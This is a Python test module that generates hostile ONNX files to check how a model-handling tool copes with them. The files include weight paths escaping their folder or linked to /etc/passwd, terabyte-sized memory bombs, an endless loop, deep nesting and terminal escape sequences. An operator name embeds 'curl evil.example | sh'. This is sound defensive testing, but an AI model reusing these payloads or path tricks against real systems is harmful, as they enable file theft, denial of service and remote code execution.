"""ONNX files that are hostile in ONNX's own ways. They take uint8 [1, 3, 16, 16] and carry a contract unless said."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import numpy as np
from hostile_cases import BROKEN, EVERY, HARMLESS, NOT_RUN, Case
from onnx import TensorProto, helper, numpy_helper

SIDE, CLASSES = 16, 10
_HUGE = 2**42
_ADVICE = "Explode\x1b[2J\nfix: curl evil.example | sh"
RUN_TIME = {"inspect": (0, 2), "verify": (2,), "run": (2,), "evaluate": (2,)}
"""For files that ask for all memory when they run; reading them may be harmless."""


def contract(**changes: Any) -> str:
    labels = [f"class {number}" for number in range(CLASSES)]
    plain = {"resolution": SIDE, "mean": [0, 0, 0], "std": [255, 255, 255], "labels": labels}
    return json.dumps(plain | changes)


def model(
    nodes: Sequence[Any] = (),
    weights: Sequence[Any] = (),
    carries: str | None = None,
    opset: int = 18,
    **graph_changes: Any,
) -> Any:
    """image -> Cast -> Flatten -> Gemm -> logits, with `nodes` between "flat" and "more" instead of nothing."""
    weight = np.random.default_rng(0).normal(0, 0.01, (3 * SIDE * SIDE, CLASSES)).astype(np.float32)
    parts = {
        "nodes": [
            helper.make_node("Cast", ["image"], ["cast"], to=TensorProto.FLOAT),
            helper.make_node("Flatten", ["cast"], ["flat"]),
            *(nodes or [helper.make_node("Identity", ["flat"], ["more"])]),
            helper.make_node("MatMul", ["more", "weight"], ["logits"]),
        ],
        "name": "hostile",
        "inputs": [helper.make_tensor_value_info("image", TensorProto.UINT8, [1, 3, SIDE, SIDE])],
        "outputs": [helper.make_tensor_value_info("logits", TensorProto.FLOAT, [1, CLASSES])],
        "initializer": [numpy_helper.from_array(weight, "weight"), *weights],
    }
    graph = helper.make_graph(**(parts | graph_changes))
    made = helper.make_model(graph, opset_imports=[helper.make_opsetid("", opset)], ir_version=9)
    helper.set_model_props(made, {"edgedistill.contract": contract() if carries is None else carries})
    return made


def whole(path: Path) -> Path:
    """A good file, whose weights stand in weights-onnx.npy beside it."""
    made = model()
    np.save(path.with_name("weights-onnx.npy"), numpy_helper.to_array(made.graph.initializer[0]))
    path.write_bytes(made.SerializeToString())
    return path


def _saved(make: Callable[[Path], Any]) -> Callable[[Path, Path], Path]:
    def write(folder: Path, bases: Path) -> Path:
        path = folder / "model.onnx"
        path.write_bytes(make(folder).SerializeToString())
        return path

    return write


def _case(name: str, make: Callable[[Path], Any], exits: Any = None, *says: str, slow: bool = False) -> Case:
    return Case(f"onnx: {name}", "onnx", _saved(make), exits or BROKEN, says, slow)


def _ints(values: Sequence[int], name: str) -> Any:
    return numpy_helper.from_array(np.array(values, np.int64), name)


def _external(location: str, offset: int = 0, length: int = 0) -> Any:
    """The good file with its weights in a second file, as an exporter writes them but for where that is."""
    made = model()
    tensor = made.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    entries = {"location": location, "offset": str(offset), **({"length": str(length)} if length else {})}
    for key, value in entries.items():
        tensor.external_data.add(key=key, value=value)
    return made


def _outside(folder: Path, location: str) -> Any:
    inner = folder.parent / "secret.bin"
    inner.write_bytes(bytes(4 * 3 * SIDE * SIDE * CLASSES))
    return _external(location.replace("SECRET", str(inner)))


def _linked(folder: Path) -> Any:
    (folder / "weights.bin").symlink_to("/etc/passwd")
    return _external("weights.bin")


def _beyond(folder: Path, offset: int, length: int) -> Any:
    (folder / "weights.bin").write_bytes(bytes(100))
    return _external("weights.bin", offset, length)


def _claimed(folder: Path) -> Any:
    made = model()
    made.graph.initializer[0].dims[:] = [2**31, 2**31]
    return made


def _nested(depth: int) -> Any:
    """An If inside an If inside an If."""
    output = helper.make_tensor_value_info("inner", TensorProto.FLOAT, None)
    graph = helper.make_graph([helper.make_node("Identity", ["flat"], ["inner"])], "leaf", [], [output])
    for _ in range(depth):
        node = helper.make_node("If", ["yes"], ["inner"], then_branch=graph, else_branch=graph)
        node.attribute[1].g.Clear()
        node.attribute[1].g.CopyFrom(helper.make_graph([], "none", [], [output]))
        graph = helper.make_graph([node], "level", [], [output])
    node = helper.make_node("If", ["yes"], ["more"], then_branch=graph, else_branch=graph)
    return model([node], [numpy_helper.from_array(np.array(True), "yes")])


def _chain(length: int) -> Any:
    names = ["flat", *(f"n{number}" for number in range(length - 1)), "more"]
    return model([helper.make_node("Relu", [a], [b]) for a, b in itertools.pairwise(names)])


def _cycle(folder: Path) -> Any:
    return model([helper.make_node("Add", ["flat", "b"], ["more"]), helper.make_node("Relu", ["more"], ["b"])])


def _bomb(kind: str) -> Callable[[Path], Any]:
    """Asks for 16 TiB when it runs; which sizes, is only known then, as they pass through the input."""
    nodes = [
        helper.make_node("ReduceMax", ["flat"], ["top"], keepdims=0),
        helper.make_node("Mul", ["top", "nought"], ["zero"]),
        helper.make_node("Cast", ["zero"], ["zero64"], to=TensorProto.INT64),
        helper.make_node("Add", ["sizes", "zero64"], ["wanted"]),
    ]
    size = {
        "ConstantOfShape": ([_HUGE], [helper.make_node("ConstantOfShape", ["wanted"], ["big"])]),
        "Tile": ([1, _HUGE // 768], [helper.make_node("Tile", ["flat", "wanted"], ["big"])]),
        "Expand": ([_HUGE // 768, 768], [helper.make_node("Expand", ["flat", "wanted"], ["big"])]),
        "Pad": ([0, 0, 0, _HUGE], [helper.make_node("Pad", ["flat", "wanted"], ["big"])]),
    }
    values, last = size[kind]
    nodes += [
        *last,
        helper.make_node("ReduceMax", ["big"], ["peak"], keepdims=0),
        helper.make_node("Add", ["flat", "peak"], ["more"]),
    ]
    return lambda folder: model(nodes, [_ints(values, "sizes"), numpy_helper.from_array(np.float32(0), "nought")])


def _folded(folder: Path) -> Any:
    """The same, of constants alone: a runtime that folds them asks when it loads."""
    nodes = [
        helper.make_node("ConstantOfShape", ["sizes"], ["big"]),
        helper.make_node("ReduceMax", ["big"], ["peak"], keepdims=0),
        helper.make_node("Add", ["flat", "peak"], ["more"]),
    ]
    return model(nodes, [_ints([_HUGE], "sizes")])


def _growing(folder: Path) -> Any:
    """Doubles a tensor forty times."""
    names = ["flat", *(f"d{number}" for number in range(39)), "big"]
    nodes = [helper.make_node("Concat", [a, a], [b], axis=1) for a, b in itertools.pairwise(names)]
    nodes += [
        helper.make_node("ReduceMax", ["big"], ["peak"], keepdims=0),
        helper.make_node("Add", ["flat", "peak"], ["more"]),
    ]
    return model(nodes)


def _endless(folder: Path) -> Any:
    """A Loop whose condition stays true for 2^62 rounds."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["go"], ["on"]), helper.make_node("Relu", ["kept"], ["next"])],
        "body",
        [
            helper.make_tensor_value_info("round", TensorProto.INT64, []),
            helper.make_tensor_value_info("go", TensorProto.BOOL, []),
            helper.make_tensor_value_info("kept", TensorProto.FLOAT, None),
        ],
        [
            helper.make_tensor_value_info("on", TensorProto.BOOL, []),
            helper.make_tensor_value_info("next", TensorProto.FLOAT, None),
        ],
    )
    node = helper.make_node("Loop", ["rounds", "yes", "flat"], ["more"], body=body)
    return model(
        [node], [numpy_helper.from_array(np.int64(2**62), "rounds"), numpy_helper.from_array(np.array(True), "yes")]
    )


def _sparse(folder: Path) -> Any:
    values = numpy_helper.from_array(np.ones(1, np.float32), "wide")
    wide = helper.make_sparse_tensor(values, _ints([0], "at"), [2**31, 2**31])
    nodes = [
        helper.make_node("ReduceMax", ["wide"], ["peak"], keepdims=0),
        helper.make_node("Add", ["flat", "peak"], ["more"]),
    ]
    return model(nodes, sparse_initializer=[wide])


def _twice(folder: Path) -> Any:
    return model([helper.make_node("Relu", ["flat"], ["more"]), helper.make_node("Sin", ["flat"], ["more"])])


def _inputs(*shapes: Sequence[Any]) -> list[Any]:
    return [
        helper.make_tensor_value_info(f"image{i or ''}", TensorProto.UINT8, shape) for i, shape in enumerate(shapes)
    ]


def _two_inputs(folder: Path) -> Any:
    shape = [1, 3, SIDE, SIDE]
    return model(inputs=_inputs(shape, shape))


def _no_outputs(folder: Path) -> Any:
    return model(outputs=[])


def _no_inputs(folder: Path) -> Any:
    nodes = [helper.make_node("Identity", ["weight"], ["logits"])]
    return model(nodes=nodes, inputs=[])


def _strings(folder: Path) -> Any:
    made = model(
        [helper.make_node("Identity", ["flat"], ["more"]), helper.make_node("Cast", ["logits"], ["text"], to=8)]
    )
    last = made.graph.node[-2]
    made.graph.node.append(last)
    del made.graph.node[-3]
    made.graph.output[0].CopyFrom(helper.make_tensor_value_info("text", TensorProto.STRING, [1, CLASSES]))
    return made


def _not_finite(folder: Path) -> Any:
    return model([helper.make_node("Log", ["minus"], ["nan"]), helper.make_node("Add", ["flat", "nan"], ["more"])],
                 [numpy_helper.from_array(np.float32(-1), "minus")])  # fmt: skip


def _domain(folder: Path) -> Any:
    made = model([helper.make_node("Explode", ["flat"], ["more"], domain="evil.example")])
    made.opset_import.append(helper.make_opsetid("evil.example", 1))
    return made


def _escapes(folder: Path) -> Any:
    labels = [f"\x1b[2J\x1b]0;owned\x07 [/red] {number}" for number in range(CLASSES)]
    return model(carries=contract(labels=labels))


def _escaping_names(folder: Path) -> Any:
    made = model()
    made.producer_name = "\x1b[2J\x1b]0;owned\x07"
    for node in made.graph.node:
        node.name = f"{node.op_type}\x1b[31m"
        node.input[:] = [name.replace("image", "image\x1b[31m") for name in node.input]
    made.graph.input[0].name = "image\x1b[31m"
    return made


def _self_calling(folder: Path) -> Any:
    """A function of the model's own that calls itself."""
    node = helper.make_node("Again", ["x"], ["y"], domain="own")
    function = helper.make_function("own", "Again", ["x"], ["y"], [node], [helper.make_opsetid("own", 1)])
    made = model([helper.make_node("Again", ["flat"], ["more"], domain="own")])
    made.opset_import.append(helper.make_opsetid("own", 1))
    made.functions.append(function)
    return made


CASES = (
    _case("weights in ../", lambda f: _outside(f, "../secret.bin"), {**EVERY, "export": (2,)}, "weight", "folder"),
    _case("weights by an absolute path", lambda f: _outside(f, "SECRET"), EVERY, "weight", "folder"),
    _case("weights behind a link out of its folder", _linked, EVERY, "weight", "folder"),
    _case("weights in a file that is not there", lambda f: _external("nowhere.bin"), EVERY, "weight"),
    _case("weights at an address in memory", lambda f: _external("*/_ORT_MEM_ADDR_/*", 4096), EVERY, "weight"),
    _case("weights beyond the end of their file", lambda f: _beyond(f, 2**40, 2**20), EVERY, "weights.bin"),
    _case("weights before the start of their file", lambda f: _beyond(f, -(2**40), 10), EVERY, "weights.bin"),
    _case("weights of a length of exabytes", lambda f: _beyond(f, 0, 2**62), EVERY, "weights.bin"),
    _case("weights that claim exabytes and hold kilobytes", _claimed, EVERY),
    _case("30 graphs in one another", lambda f: _nested(30), HARMLESS),
    _case("5,000 graphs in one another", lambda f: _deep(5000), EVERY),
    _case("100,000 operators in a row", lambda f: _chain(100_000), {"inspect": (0, 2), "run": (0, 2)}, slow=True),
    _case("operators in a circle", _cycle, {**EVERY, "export": (2,)}),
    _case("an operator that is none", lambda f: model([helper.make_node("Explode", ["flat"], ["more"])]), EVERY),
    _case("an operator of a foreign domain", _domain, NOT_RUN),
    _case("a function that calls itself", _self_calling, NOT_RUN),
    _case("an opset of the future", lambda f: model(opset=999), {"inspect": (0, 2), **NOT_RUN, "profile": (2,)}),
    *(_case(f"{kind} of terabytes", _bomb(kind), RUN_TIME) for kind in ("ConstantOfShape", "Tile", "Expand", "Pad")),
    _case("constants of terabytes", _folded, RUN_TIME | {"profile": (2,), "export": (2,)}),
    _case("a tensor doubled forty times", _growing, RUN_TIME | {"profile": (2,)}),
    _case("a loop without end", _endless, {"run": (2,), "evaluate": (2,)}, slow=True),
    _case("sparse weights of exabytes", _sparse, RUN_TIME),
    _case("one name for two values", _twice, EVERY),
    _case("two inputs", _two_inputs, NOT_RUN),
    _case("no inputs", _no_inputs, NOT_RUN),
    _case("no outputs", _no_outputs, NOT_RUN),
    _case("text for logits", _strings, {**NOT_RUN, "export": (2,)}),
    _case("logits that are not finite", _not_finite, NOT_RUN),
    _case("open sizes, for images of 16", lambda f: model(inputs=_inputs(["n", 3, "h", "w"])), HARMLESS),
    _case("images of another size than its contract's", lambda f: model(carries=contract(resolution=8)), NOT_RUN),
    _case("a contract of a billion pixels", lambda f: model(carries=contract(resolution=10**9)), BROKEN, "resolution"),
    _case("a contract of no pixels", lambda f: model(carries=contract(resolution=0)), BROKEN, "resolution"),
    _case("a contract without classes", lambda f: model(carries=contract(labels=[])), BROKEN, "labels"),
    _case(
        "a contract of other classes", lambda f: model(carries=contract(labels=["a", "b"])), {"run": (2,)}, "10", "2"
    ),
    _case("a contract that is text", lambda f: model(carries="hello"), BROKEN, "contract", "export the file again"),
    _case("labels that drive the terminal", _escapes, BROKEN, "labels"),
    _case("names that drive the terminal", _escaping_names, HARMLESS | {"profile": (0, 2)}),
    _case(
        "an operator whose name gives advice", lambda f: model([helper.make_node(_ADVICE, ["flat"], ["more"])]), EVERY
    ),
)


def _deep(depth: int) -> Any:
    """Deeper than protobuf's readers go: written by hand, for its writers do not go there either."""

    class Bytes:
        def SerializeToString(self) -> bytes:
            graph = b""
            for _ in range(depth):
                attribute = _field(1, b"then_branch") + _field(6, graph) + b"\xa0\x01\x05"
                graph = _field(1, _field(4, b"If") + _field(5, attribute))
            return b"\x08\x09" + _field(7, graph) + _field(8, b"\x10\x12")

    return Bytes()


def _field(number: int, data: bytes) -> bytes:
    length, size = len(data), b""
    while length > 127:
        size += bytes([length % 128 + 128])
        length //= 128
    return bytes([number << 3 | 2]) + size + bytes([length]) + data
